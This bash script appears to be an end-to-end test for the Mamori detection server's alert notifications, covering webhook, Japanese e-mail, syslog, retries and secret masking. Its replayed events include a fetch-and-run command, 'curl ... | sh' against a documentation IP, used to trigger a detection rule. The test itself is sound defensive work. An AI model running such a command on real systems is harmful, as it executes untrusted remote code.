#!/usr/bin/env bash
# Alert notifications through the real server and an agent replaying events, to receivers this
# script starts: a webhook (python http.server), a real SMTP server (aiosmtpd) and a syslog UDP
# listener. Group jp's alerts go by e-mail in Japanese to the local IT team, everything by
# webhook in English to head office, medium and up to the SIEM over syslog (RFC 5424). Checked:
# what each receiver got, a route whose webhook is down (pending with attempts and the error,
# kept across a restart, delivered once the receiver starts), one notification per alert and
# route although the agent and the server both raise it, none for an excluded alert, secrets
# masked, bad documents refused, test messages, counters. With MAMORI_TEST_PG set (as
# scripts/with-pg.sh does) the server uses that PostgreSQL database instead of SQLite.
. "$(dirname "$0")/lib/common.bash"
. "$(dirname "$0")/lib/stack.bash"

PY=/usr/bin/python3
[ -x "$PY" ] && "$PY" -c 'import aiosmtpd' 2>/dev/null ||
  skip "python3-aiosmtpd is not installed (bash scripts/deps.sh)"
MAMORI_TEST_DATA=${MAMORI_TEST_DATA:-$MAMORI_SRC/tests/data}
D=$MAMORI_TEST_DATA/e2e_detect
HOST=jp-host1
STORE=()
[ -z "${MAMORI_TEST_PG:-}" ] || STORE=(--store "$MAMORI_TEST_PG")
mkdir -p "$WORK/hook" "$WORK/late" "$WORK/mail"

# ---- receivers ----
cat >"$WORK/recv_http.py" <<'PY'
# Writes each POST as N.json (body) and N.hdr (headers) into DIR; answers 200.
import http.server, os, sys
port, out = int(sys.argv[1]), sys.argv[2]
class H(http.server.BaseHTTPRequestHandler):
    n = 0
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        H.n += 1
        base = os.path.join(out, "%03d" % H.n)
        with open(base + ".hdr.tmp", "w") as f:
            f.write("path: %s\n%s" % (self.path, self.headers))
        with open(base + ".json.tmp", "wb") as f:
            f.write(body)
        os.rename(base + ".hdr.tmp", base + ".hdr")
        os.rename(base + ".json.tmp", base + ".json")
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")
    def log_message(self, *a):
        pass
s = http.server.HTTPServer(("127.0.0.1", port), H)
open(os.path.join(out, "ready"), "w").close()
s.serve_forever()
PY
cat >"$WORK/recv_smtp.py" <<'PY'
# A real SMTP server (aiosmtpd): each message as N.eml in DIR, its envelope as N.env.
import os, signal, sys, threading
from aiosmtpd.controller import Controller
port, out = int(sys.argv[1]), sys.argv[2]
class Handler:
    n = 0
    async def handle_DATA(self, server, session, envelope):
        Handler.n += 1
        base = os.path.join(out, "%03d" % Handler.n)
        with open(base + ".env", "w") as f:
            f.write("from: %s\nto: %s\n" % (envelope.mail_from, ",".join(envelope.rcpt_tos)))
        with open(base + ".tmp", "wb") as f:
            f.write(envelope.original_content)
        os.rename(base + ".tmp", base + ".eml")
        return "250 Message accepted for delivery"
c = Controller(Handler(), hostname="127.0.0.1", port=port)
c.start()
open(os.path.join(out, "ready"), "w").close()
stop = threading.Event()
signal.signal(signal.SIGTERM, lambda *a: stop.set())
stop.wait()
c.stop()
PY
cat >"$WORK/recv_syslog.py" <<'PY'
# Syslog over UDP: one datagram per line in FILE (repr-safe: newlines would be a bug anyway).
import socket, sys
port, path = int(sys.argv[1]), sys.argv[2]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", port))
open(path + ".ready", "w").close()
with open(path, "ab", buffering=0) as f:
    while True:
        d, _ = s.recvfrom(65536)
        f.write(d.replace(b"\n", b"\\n") + b"\n")
PY
start_receiver() { # start_receiver READY_FILE COMMAND...: background, waits until ready
  local ready=$1; shift
  "$@" >>"$WORK/receivers.log" 2>&1 &
  cleanup_hooks+=("kill $! 2>/dev/null")
  WAIT_S=10 wait_for test -e "$ready" || { cat "$WORK/receivers.log" >&2; fail "receiver $* not ready"; }
}
HOOK_PORT=$(free_port)
LATE_PORT=$(free_port)
SMTP_PORT=$(free_port)
SYSLOG_PORT=$(free_port)
start_receiver "$WORK/hook/ready" python3 "$WORK/recv_http.py" "$HOOK_PORT" "$WORK/hook"
start_receiver "$WORK/mail/ready" "$PY" "$WORK/recv_smtp.py" "$SMTP_PORT" "$WORK/mail"
start_receiver "$WORK/syslog.ready" python3 "$WORK/recv_syslog.py" "$SYSLOG_PORT" "$WORK/syslog"

# ---- the server, the group jp with its host, a policy that excludes one rule ----
start_server --rules "$D/rules.yml" --notify-retry-base 1 "${STORE[@]}"
"$CLI" groups create jp >/dev/null || fail "groups create"
enroll_agent "$WORK/agent" "$HOST"
"$CLI" hosts move "$HOST" jp >/dev/null || fail "hosts move"
echo '{"disabled_rules": ["7d1f6c2e-0d7e-4d55-9a51-2f3f1c7e0a03"]}' >"$WORK/policy.json"
"$CLI" policy apply jp "$WORK/policy.json" --reason "e2e: repeated failed su is noise here" >/dev/null ||
  fail "policy apply"

# ---- bad routes documents are refused with the reason ----
refused() { # refused JSON EXPECTED
  local rc=0 out
  printf '%s\n' "$1" >"$WORK/bad.json"
  out=$("$CLI" notify routes apply "$WORK/bad.json" 2>&1) || rc=$?
  [ "$rc" = 1 ] && grep -qF -- "$2" <<<"$out" || fail "bad routes ($1): exit $rc: $out"
}
refused '{"routes": [{"name": "x", "webhook": {"url": "ftp://h/"}}]}' \
  "routes[0].webhook.url: an http:// or https:// URL"
refused '{"routes": [{"name": "x", "match": {"tags": ["attack.exectuion"]}, "webhook": {"url": "http://h/"}}]}' \
  "routes[0].match.tags[0]"
refused '{"routes": [{"name": "x", "email": {"smtp_url": "smtp://h", "from": "a@b", "to": ["c@d"]}, "syslog": {"address": "h:514"}}]}' \
  "routes[0]: one destination only (email or syslog)"
refused '{"routes": [{"name": "x", "language": "de", "webhook": {"url": "http://h/"}}]}' \
  "routes[0].language: en or ja"
"$CLI" notify routes show | head -1 | grep -q "version 0 (none set)" || fail "routes stored after refusals"
"$CLI" stats | grep -Eq "^notifications\.routes_rejected +4$" || fail "rejections not counted: $("$CLI" stats | grep notif)"
echo "ok: bad routes documents refused with the reason"

# ---- the routes ----
cat >"$WORK/routes.json" <<JSON
{"routes": [
  {"name": "jp-it", "language": "ja", "match": {"groups": ["jp"], "min_severity": "low"},
   "email": {"smtp_url": "smtp://127.0.0.1:$SMTP_PORT", "from": "mamori@example.jp",
             "to": ["it-jp@example.jp"], "starttls": false}},
  {"name": "head-office", "language": "en",
   "webhook": {"url": "http://127.0.0.1:$HOOK_PORT/mamori",
               "headers": {"Authorization": "Bearer s3cret-token"}}},
  {"name": "siem", "match": {"min_severity": "medium"},
   "syslog": {"address": "127.0.0.1:$SYSLOG_PORT", "transport": "udp", "facility": "local4"}},
  {"name": "late-hook", "match": {"tags": ["attack.t1059"]},
   "webhook": {"url": "http://127.0.0.1:$LATE_PORT/x", "timeout_s": 2}},
  {"name": "credential-team", "match": {"tags": ["attack.credential-access"]},
   "webhook": {"url": "http://127.0.0.1:$HOOK_PORT/never"}},
  {"name": "paused", "enabled": false,
   "email": {"smtp_url": "smtps://mail.example:465", "from": "m@example.jp", "to": ["x@example.jp"],
             "username": "mamori", "password": "hunter2-secret"}}
]}
JSON
out=$("$CLI" notify routes apply "$WORK/routes.json" --reason "e2e: local IT and head office") ||
  fail "routes apply: $out"
[ "$out" = "notification routes version 1 (6 routes)" ] || fail "routes apply output: $out"
"$CLI" notify routes show >"$WORK/shown.txt" || fail "routes show"
grep -q "s3cret-token\|hunter2-secret" "$WORK/shown.txt" && fail "secrets shown: $(cat "$WORK/shown.txt")"
[ "$(grep -c '"\*\*\*\*\*\*\*\*"' "$WORK/shown.txt")" = 2 ] || fail "secrets not masked: $(cat "$WORK/shown.txt")"
# The shown document applied back keeps the stored secrets (checked by the test message below).
tail -n +2 "$WORK/shown.txt" >"$WORK/shown.json"
"$CLI" notify routes apply "$WORK/shown.json" --reason "e2e: round trip" >/dev/null || fail "re-apply"
"$CLI" audit list --output jsonl | grep -q "notification routes v2 (6 routes): e2e: round trip" ||
  fail "routes change not audited"
echo "ok: routes stored (version 2), secrets masked and kept"

# ---- alerts: the agent and the server both detect ----
python3 - "$WORK/ev.jsonl" "$HOST" <<'PY'
import json, sys
out, host = open(sys.argv[1], "w"), sys.argv[2]
def ev(seq, cmd, name, user="alice", **kw):
    e = {"@timestamp": "2026-11-21T10:00:%02d.000000000Z" % seq,
         "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec", "sequence": seq},
         "host": {"name": host}, "user": {"name": user},
         "process": {"pid": 100 + seq, "entity_id": "n%08d" % seq, "executable": "/usr/bin/" + name,
                     "name": name, "command_line": cmd, "args": cmd.split(),
                     "parent": {"entity_id": "n%08d" % (seq - 1), "executable": "/usr/bin/bash"}}}
    e["process"].update(kw)
    out.write(json.dumps(e) + "\n")
ev(1, "curl -s http://203.0.113.9/x.sh | sh", "curl")
for seq in (2, 3, 4):
    ev(seq, "su -", "su", exit_code=1, user="bob")
PY
start_agent "$WORK/agent" --replay "$WORK/ev.jsonl" --drain 20 --rules "$D/rules.yml" --host-name "$HOST"
wait "$AGENT_PID" || fail "agent exited with $?"
WAIT_S=20 wait_for sh -c "[ \$(\"$CLI\" alerts list --since 1h --output jsonl | wc -l) -ge 2 ]" ||
  fail "alerts not stored: $("$CLI" alerts list --since 1h 2>&1)"
"$CLI" alerts list --since 1h --output jsonl >"$WORK/alerts.jsonl"
ID=$(python3 - "$WORK/alerts.jsonl" <<'PY'
import json, sys
a = [json.loads(l) for l in open(sys.argv[1])]
assert len(a) == 2, a
su = [x for x in a if x["rule"]["name"] == "Repeated failed su"]
assert su and su[0]["status"] == "excluded", su
print([x for x in a if x["rule"]["name"] == "Download piped to a shell"][0]["event"]["id"])
PY
) || fail "alerts: $(cat "$WORK/alerts.jsonl")"
WAIT_S=15 wait_for sh -c "\"$CLI\" stats | grep -Eq '^alerts_stored +[4-9]'" ||
  fail "the agent's copies of the alerts did not arrive: $("$CLI" stats | grep alerts)"

# Head office: the English JSON with the alert, and the route's header.
WAIT_S=30 wait_for test -e "$WORK/hook/001.json" || fail "no webhook delivery: $(tail -20 "$WORK/server.log")"
python3 - "$WORK/hook/001.json" "$ID" "$HOST" <<'PY' || fail "webhook body: $(cat "$WORK/hook/001.json")"
import json, sys
b, aid, host = json.load(open(sys.argv[1])), sys.argv[2], sys.argv[3]
assert b["type"] == "mamori.alert" and b["route"] == "head-office" and b["language"] == "en", b
assert b["title"] == "[Mamori] HIGH: Download piped to a shell on " + host, b["title"]
assert "Command line: curl -s hxxp://203.0.113.9/x.sh | sh" in b["text"], b["text"]
assert "Host: %s (group jp)" % host in b["text"] and "ATT&CK: T1059.004, T1105" in b["text"], b["text"]
a = b["alert"]
assert a["event"]["id"] == aid and a["rule"]["name"] == "Download piped to a shell", a
assert a["process"]["command_line"].startswith("curl -s http://") and a["status"] == "open", a
assert b["delivery"]["attempt"] == 1
PY
grep -q "^path: /mamori" "$WORK/hook/001.hdr" && grep -qi "^Authorization: Bearer s3cret-token" "$WORK/hook/001.hdr" &&
  grep -qi "^Content-Type: application/json" "$WORK/hook/001.hdr" || fail "webhook headers: $(cat "$WORK/hook/001.hdr")"
echo "ok: head office webhook got the English JSON with the alert"

# The local IT team: a Japanese mail through a real SMTP server.
WAIT_S=30 wait_for test -e "$WORK/mail/001.eml" || fail "no mail: $(tail -20 "$WORK/server.log")"
grep -q "^to: it-jp@example.jp$" "$WORK/mail/001.env" && grep -q "^from: mamori@example.jp$" "$WORK/mail/001.env" ||
  fail "envelope: $(cat "$WORK/mail/001.env")"
"$PY" - "$WORK/mail/001.eml" "$ID" "$HOST" <<'PY' || fail "mail: $(cat "$WORK/mail/001.eml")"
import email, email.header, email.policy, sys
raw = open(sys.argv[1], "rb").read()
aid, host = sys.argv[2], sys.argv[3]
assert b"\r\n" in raw or b"\n" in raw
m = email.message_from_bytes(raw, policy=email.policy.default)
assert raw.split(b"Subject: ", 1)[1].startswith(b"=?UTF-8?B?"), "the subject is not RFC 2047"
subject = str(email.header.make_header(email.header.decode_header(m["Subject"])))
assert subject == "[Mamori] 重大度 高: %s で「Download piped to a shell」を検知" % host, subject
assert m["To"] == "it-jp@example.jp" and "mamori@example.jp" in m["From"], (m["To"], m["From"])
assert m["Message-ID"].startswith("<mamori.") and m["Date"] and m["X-Mamori-Alert-Id"] == aid
assert m.get_content_type() == "text/plain" and m.get_content_charset() == "utf-8"
body = m.get_content()
for want in ("ホスト %s で Mamori がアラートを検知しました。" % host, "重大度：高（リスクスコア 73）",
             "ホスト：%s（グループ jp）" % host, "コマンドライン：curl -s hxxp://203.0.113.9/x.sh | sh",
             "ATT&CK：T1059.004, T1105（実行、コマンド&コントロール）", "推奨対応：",
             "mamori alerts show " + aid):
    assert want in body, (want, body)
PY
echo "ok: the local IT team got the alert in Japanese by e-mail"

# The SIEM: one RFC 5424 line (medium and up: the excluded medium alert is not there).
WAIT_S=30 wait_for test -s "$WORK/syslog" || fail "no syslog line"
python3 - "$WORK/syslog" "$ID" "$HOST" <<'PY' || fail "syslog: $(cat "$WORK/syslog")"
import re, sys
lines = open(sys.argv[1], encoding="utf-8").read().splitlines()
aid, host = sys.argv[2], sys.argv[3]
assert len(lines) == 1, lines
pat = (r'<163>1 \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z \S+ mamori - ALERT \[mamori@32473 route="siem" '
       r'id="%s" rule="Download piped to a shell" rule_id="\S+" severity="high" risk_score="73" '
       r'host="%s" group="jp" technique="T1059.004,T1105" tactic="Execution,Command and Control" '
       r'process="/usr/bin/curl" pid="101" user="alice" command_line="curl -s http://203.0.113.9/x.sh \| sh"\] '
       r'\[Mamori\] HIGH: Download piped to a shell on %s$') % (aid, re.escape(host), re.escape(host))
assert re.match(pat, lines[0]), lines[0]
PY
echo "ok: the SIEM got an RFC 5424 line (local4.err)"

# The route whose receiver is down: pending, tried, with the error; the others sent once.
late_tried() {
  "$CLI" notify list --route late-hook --output jsonl >"$WORK/late.jsonl" &&
    [ "$(jcount "$WORK/late.jsonl" "e['status'] == 'pending' and e['attempts'] >= 1 and 'connect' in (e['last_error'] or '')")" = 1 ]
}
WAIT_S=20 wait_for late_tried || fail "late-hook: $(cat "$WORK/late.jsonl")"
"$CLI" notify list --output jsonl >"$WORK/all.jsonl"
python3 - "$WORK/all.jsonl" "$ID" <<'PY' || fail "deliveries: $(cat "$WORK/all.jsonl")"
import json, sys
d, aid = [json.loads(l) for l in open(sys.argv[1])], sys.argv[2]
by = {x["route"]: x for x in d}
assert len(d) == 4 and all(x["alert_id"] == aid and x["kind"] == "alert" for x in d), d
assert sorted(by) == ["head-office", "jp-it", "late-hook", "siem"], sorted(by)
for r in ("head-office", "jp-it", "siem"):
    x = by[r]
    assert x["status"] == "sent" and x["attempts"] == 1 and x["sent_at"] and x["last_error"] is None, x
    assert x["host"] and x["rule"] == "Download piped to a shell" and x["severity"] == "high" and x["group"] == "jp", x
assert by["late-hook"]["next_try"] and by["late-hook"]["sent_at"] is None
PY
"$CLI" notify list --status pending >"$WORK/pending.txt"
grep -q "late-hook" "$WORK/pending.txt" && grep -q "connect" "$WORK/pending.txt" ||
  fail "table: $(cat "$WORK/pending.txt")"
[ "$(ls "$WORK/hook"/*.json | wc -l)" = 1 ] || fail "the webhook got more than one message: $(ls "$WORK/hook")"
[ "$(ls "$WORK/mail"/*.eml | wc -l)" = 1 ] || fail "more than one mail"
"$CLI" stats >"$WORK/stats.txt"
grep -Eq "^notifications\.sent +3$" "$WORK/stats.txt" && grep -Eq "^notifications\.retried +[1-9]" "$WORK/stats.txt" &&
  grep -Eq "^notifications\.pending +1$" "$WORK/stats.txt" && grep -Eq "^notifications\.failed +0$" "$WORK/stats.txt" ||
  fail "counters: $(grep notif "$WORK/stats.txt")"
echo "ok: one delivery per alert and route (two copies of the alert arrived), none for the excluded one"

# ---- a restart keeps the pending delivery; it goes out once the receiver listens ----
before=$(jcount "$WORK/late.jsonl" "e['status'] == 'pending'")
stop_server -TERM
grep -q "ERROR: .*Sanitizer\|runtime error" "$WORK/server.log" && fail "sanitizer: $(grep -A10 ERROR "$WORK/server.log")"
start_server --rules "$D/rules.yml" --notify-retry-base 1 "${STORE[@]}"
"$CLI" notify list --route late-hook --output jsonl >"$WORK/late.jsonl"
[ "$before" = 1 ] && [ "$(jcount "$WORK/late.jsonl" "e['status'] == 'pending' and e['attempts'] >= 1")" = 1 ] ||
  fail "the pending delivery was lost in the restart: $(cat "$WORK/late.jsonl")"
start_receiver "$WORK/late/ready" python3 "$WORK/recv_http.py" "$LATE_PORT" "$WORK/late"
late_sent() {
  "$CLI" notify list --route late-hook --status sent --output jsonl >"$WORK/late.jsonl" &&
    [ "$(jcount "$WORK/late.jsonl" "e['attempts'] >= 2")" = 1 ]
}
WAIT_S=90 wait_for late_sent || fail "late-hook never delivered: $("$CLI" notify list --route late-hook)"
python3 -c 'import json,sys; b = json.load(open(sys.argv[1])); assert b["alert"]["event"]["id"] == sys.argv[2] and b["delivery"]["attempt"] >= 2, b' \
  "$WORK/late/001.json" "$ID" || fail "late body: $(cat "$WORK/late/001.json")"
echo "ok: a failed delivery stays pending across a restart and is retried until it goes out"

# ---- test messages, counters ----
out=$("$CLI" notify test head-office) || fail "notify test: $out"
grep -q "^sent a test message through head-office" <<<"$out" || fail "notify test output: $out"
python3 -c 'import json,sys; b = json.load(open(sys.argv[1])); assert b["type"] == "mamori.test" and b["alert"] is None, b' \
  "$WORK/hook/002.json" || fail "test body: $(cat "$WORK/hook/002.json")"
grep -qi "^Authorization: Bearer s3cret-token" "$WORK/hook/002.hdr" || fail "the re-applied route lost its header"
"$CLI" notify test jp-it >/dev/null || fail "notify test jp-it"
"$PY" -c '
import email, email.header, email.policy, sys
m = email.message_from_bytes(open(sys.argv[1], "rb").read(), policy=email.policy.default)
s = str(email.header.make_header(email.header.decode_header(m["Subject"])))
assert s == "[Mamori] テスト通知（ルート jp-it）" and "対応は不要です" in m.get_content(), s' "$WORK/mail/002.eml" ||
  fail "test mail: $(cat "$WORK/mail/002.eml")"
rc=0
out=$("$CLI" notify test no-such-route 2>&1) || rc=$?
[ "$rc" = 1 ] && grep -q "no route named no-such-route" <<<"$out" || fail "test through an unknown route: $rc $out"
rc=0
out=$("$CLI" notify retry "$(python3 -c 'import json,sys; print(json.loads(open(sys.argv[1]).readline())["id"])' "$WORK/late.jsonl")" 2>&1) || rc=$?
[ "$rc" = 1 ] && grep -q "already sent" <<<"$out" || fail "retry of a sent delivery: $rc $out"
"$CLI" stats >"$WORK/stats.txt"
grep -Eq "^notifications\.sent +[3-9]" "$WORK/stats.txt" || fail "counters after the restart: $(grep notif "$WORK/stats.txt")"
grep -Eq "^notifications\.pending +0$" "$WORK/stats.txt" || fail "pending: $(grep notif "$WORK/stats.txt")"
echo "ok: test messages in English and Japanese; counters"
stop_server -TERM
grep -q "ERROR: .*Sanitizer\|runtime error" "$WORK/server.log" && fail "sanitizer: $(grep -A10 ERROR "$WORK/server.log")"
echo "PASS"
